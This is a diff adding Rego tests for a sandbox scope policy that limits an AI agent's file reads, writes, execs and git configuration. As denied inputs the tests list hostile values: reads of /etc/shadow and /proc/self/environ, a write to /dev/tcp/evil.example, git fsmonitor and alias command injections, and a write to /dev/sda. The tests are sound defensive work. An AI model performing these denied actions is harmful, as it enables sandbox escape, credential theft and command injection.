@@ -1,0 +1,162 @@
+package sandbox.scope_test
+
+import rego.v1
+
+import data.sandbox.testlib as t
+
+# --- write_outside_writable ------------------------------------------------------------
+
+test_write_under_backend if {
+	t.allowed(t.write("backend/app.py"))
+	t.allowed(t.write("backend/app/models/todo.py"))
+	t.allowed(t.write("backend"))
+	t.denied_by(t.write("frontend/app.js"), "scope", "write_outside_writable")
+	t.denied_by(t.write("backendx/app.py"), "scope", "write_outside_writable")
+	t.denied_by(t.write("README.md"), "scope", "write_outside_writable")
+	t.denied_by(t.write("."), "scope", "write_outside_writable")
+}
+
+test_write_issues_md_only_at_the_root if {
+	t.allowed(t.write("issues.md"))
+	t.denied_by(t.write("Issues.md"), "scope", "write_outside_writable")
+	t.denied_by(t.write("ISSUES.MD"), "scope", "write_outside_writable")
+	t.denied_by(t.write("issues.md "), "scope", "write_outside_writable")
+	t.denied_by(t.write("іssues.md"), "scope", "write_outside_writable") # Cyrillic і
+	t.denied_by(t.write("issues.md.bak"), "scope", "write_outside_writable")
+	t.denied_by(t.write("issues.md/x"), "scope", "write_outside_writable")
+	t.denied_by(t.write("docs/issues.md"), "scope", "write_outside_writable")
+}
+
+test_write_path_with_dotdot_is_not_under_backend if {
+	t.denied_by(t.write("backend/../frontend/app.js"), "scope", "write_outside_writable")
+	t.allowed(t.write("backend/a..b.py"))
+}
+
+test_writable_comes_from_data if {
+	t.allowed(t.write("frontend/app.js")) with data.settings.writable as ["frontend/"]
+	t.denied_by(t.write("backend/app.py"), "scope", "write_outside_writable") with data.settings.writable as ["frontend/"]
+}
+
+# --- write_protected_dir ----------------------------------------------------------------
+
+test_no_writes_into_git if {
+	t.denied_by(t.write(".git/hooks/pre-commit"), "scope", "write_protected_dir")
+	t.denied_by(t.write(".git/config"), "scope", "write_protected_dir")
+	t.denied_by(t.write("backend/.git/hooks/post-checkout"), "scope", "write_protected_dir")
+	t.denied_by(t.write("backend/.GIT/config"), "scope", "write_protected_dir")
+	t.denied_by(t.write_fact(t.linked("backend/hooks", ".git/hooks", "write")), "scope", "write_protected_dir")
+	t.allowed(t.write("backend/.gitignore"))
+	t.allowed(t.write("backend/git/notes.py"))
+	t.allowed(t.read(".git/config"))
+}
+
+# --- write_outside_workspace ------------------------------------------------------------
+
+test_no_writes_outside_the_workspace if {
+	t.denied_by(t.write("/etc/passwd"), "scope", "write_outside_workspace")
+	t.denied_by(t.write("/tmp/x"), "scope", "write_outside_workspace")
+	t.denied_by(t.write("/workspace2/x"), "scope", "write_outside_workspace")
+	t.denied_by(t.write_fact(object.union(t.fact("backend/x", "write"), {"inside_workspace": false})), "scope", "write_outside_workspace")
+	t.allowed(t.write("/dev/null"))
+	t.allowed(t.bash([["pytest"]], [t.fact("/dev/stderr", "write")]))
+}
+
+# --- write_symlink_escape ---------------------------------------------------------------
+
+test_no_writes_through_symlinks_that_leave if {
+	t.denied_by(t.write_fact(t.linked("backend/link", "frontend/app.js", "write")), "scope", "write_symlink_escape")
+	t.denied_by(t.write_fact(t.linked("backend/link", "/etc/cron.d/x", "write")), "scope", "write_symlink_escape")
+	t.denied_by(t.write_fact(t.linked("backend/dir/x", "/home/agent/.bashrc", "write")), "scope", "write_symlink_escape")
+	t.allowed(t.write_fact(t.linked("backend/link", "backend/real.py", "write")))
+	t.allowed(t.write_fact(t.linked("issues.md", "backend/issues.md", "write")))
+}
+
+# --- write_hardlink ----------------------------------------------------------------------
+
+test_no_writes_to_hard_linked_files if {
+	t.denied_by(t.write_fact(object.union(t.fact("backend/x.py", "write"), {"hardlinks": 2})), "scope", "write_hardlink")
+	t.allowed(t.write_fact(object.union(t.fact("backend/x.py", "write"), {"hardlinks": 1})))
+	t.allowed(t.call("Read", [object.union(t.fact("backend/x.py", "read"), {"hardlinks": 3})]))
+}
+
+# --- dynamic_write_target ----------------------------------------------------------------
+
+test_dynamic_write_targets if {
+	t.denied_by(t.write_fact(object.union(t.fact("backend/$NAME", "write"), {"dynamic": true})), "scope", "dynamic_write_target")
+	t.allowed(t.write_fact(object.union(t.fact("backend/name.py", "write"), {"dynamic": false})))
+	t.allowed(t.call("Read", [object.union(t.fact("backend/*.py", "read"), {"dynamic": true})]))
+}
+
+# --- read_outside_workspace --------------------------------------------------------------
+
+test_reads_outside_the_workspace if {
+	t.denied_by(t.read("/etc/shadow"), "scope", "read_outside_workspace")
+	t.denied_by(t.read("/etc/passwd"), "scope", "read_outside_workspace")
+	t.denied_by(t.read("/home/agent/.bash_history"), "scope", "read_outside_workspace")
+	t.denied_by(t.read("/"), "scope", "read_outside_workspace")
+	t.denied_by(t.read("/usr/../etc/shadow"), "scope", "read_outside_workspace")
+	t.denied_by(t.call("Read", [t.linked("backend/x", "/etc/shadow", "read")]), "scope", "read_outside_workspace")
+	t.allowed(t.read("/usr/lib/python3.11/json/__init__.py"))
+	t.allowed(t.read("/usr"))
+	t.allowed(t.read("/etc/os-release"))
+	t.allowed(t.read("/tmp/pytest-of-agent/x"))
+	t.allowed(t.call("Read", [t.linked("backend/py", "/usr/lib/python3.11", "read")]))
+}
+
+test_reads_anywhere_in_the_workspace if {
+	t.allowed(t.read("frontend/app.js"))
+	t.allowed(t.read("architecture/backend.md"))
+	t.allowed(t.read("."))
+	t.allowed(t.read(".git/HEAD"))
+}
+
+# --- exec_outside_workspace --------------------------------------------------------------
+
+test_exec_outside_the_workspace if {
+	t.denied_by(t.bash([["/tmp/evil"]], [t.fact("/tmp/evil", "exec")]), "scope", "exec_outside_workspace")
+	t.denied_by(t.bash([["/home/agent/x"]], [t.fact("/home/agent/x", "exec")]), "scope", "exec_outside_workspace")
+	t.allowed(t.bash([["/usr/bin/python3"]], [t.fact("/usr/bin/python3", "exec")]))
+	t.allowed(t.bash([["run.sh"]], [t.fact("backend/run.sh", "exec")]))
+}
+
+# --- special_file ------------------------------------------------------------------------
+
+test_kernel_special_files if {
+	t.denied_by(t.read("/proc/self/root/etc/shadow"), "scope", "special_file")
+	t.denied_by(t.read("/proc/1/cmdline"), "scope", "special_file")
+	t.denied_by(t.read("/proc"), "scope", "special_file")
+	t.denied_by(t.read("/sys/kernel/notes"), "scope", "special_file")
+	t.denied_by(t.bash([["cat"]], [t.fact("/dev/tcp/evil.example/80", "write")]), "scope", "special_file")
+	t.denied_by(t.write("/dev/sda"), "scope", "special_file")
+	t.denied_by(t.call("Read", [t.linked("backend/env", "/proc/self/environ", "read")]), "scope", "special_file")
+	t.allowed(t.write("/dev/null"))
+	t.allowed(t.read("/dev/urandom"))
+	t.allowed(t.read("/proc/cpuinfo"))
+}
+
+# --- git configuration -------------------------------------------------------------------
+
+test_git_config_write if {
+	t.denied_by(t.bash([["git", "config", "core.hooksPath", "/tmp/h"]], []), "scope", "git_config_write")
+	t.denied_by(t.bash([["git", "-C", "backend", "config", "--global", "alias.x", "!sh"]], []), "scope", "git_config_write")
+	t.allowed(t.bash([["git", "config", "--get", "user.name"]], []))
+	t.allowed(t.bash([["git", "config", "--list"]], []))
+	t.allowed(t.bash([["git", "commit", "-m", "config"]], []))
+	t.allowed(t.bash([["git", "-C", "config", "status"]], []))
+}
+
+test_git_config_exec if {
+	t.denied_by(t.bash([["git", "-c", "core.fsmonitor=touch /tmp/x", "status"]], []), "scope", "git_config_exec")
+	t.denied_by(t.bash([["git", "-c", "core.hooksPath=/tmp", "commit"]], []), "scope", "git_config_exec")
+	t.denied_by(t.bash([["/usr/bin/git", "-c", "alias.st=!sh", "st"]], []), "scope", "git_config_exec")
+	t.denied_by(t.bash([["git", "--config-env=core.pager=PAGER", "log"]], []), "scope", "git_config_exec")
+	t.allowed(t.bash([["git", "-c", "user.name=x", "commit", "-m", "m"]], []))
+	t.allowed(t.bash([["git", "log", "-c"]], []))
+}
+
+# --- malformed_fact ----------------------------------------------------------------------
+
+test_unknown_operation if {
+	t.denied_by(t.bash([["rm", "backend/app.py"]], [t.fact("backend/app.py", "delete")]), "scope", "malformed_fact")
+	t.allowed(t.bash([["rm", "backend/app.py"]], [t.fact("backend/app.py", "write")]))
+}
